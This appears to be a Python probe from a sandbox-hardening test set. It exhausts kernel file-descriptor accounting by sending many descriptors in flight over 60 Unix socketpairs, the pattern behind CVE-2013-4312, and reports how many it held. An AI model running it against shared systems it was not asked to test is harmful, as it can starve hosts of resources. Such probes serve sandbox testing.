# technique: descriptors in flight: sent over local sockets, closed, and sent again
# source: unix(7), SCM_RIGHTS; CVE-2013-4312
# verdict: WA
# invariant: what is in flight is counted by the kernel and freed with the program
# without: seccomp capabilities
import array, os, socket

pairs, sent = [], 0
try:
    while len(pairs) < 60:
        pairs.append(socket.socketpair())
        pairs[-1][0].setblocking(False)
    for left, _ in pairs:
        try:
            while True:
                socket.send_fds(left, [b"x"], [0] * 250)
                sent += 250
        except BlockingIOError:
            pass
except OSError as refused:
    print("held", refused)
print("held", sent)
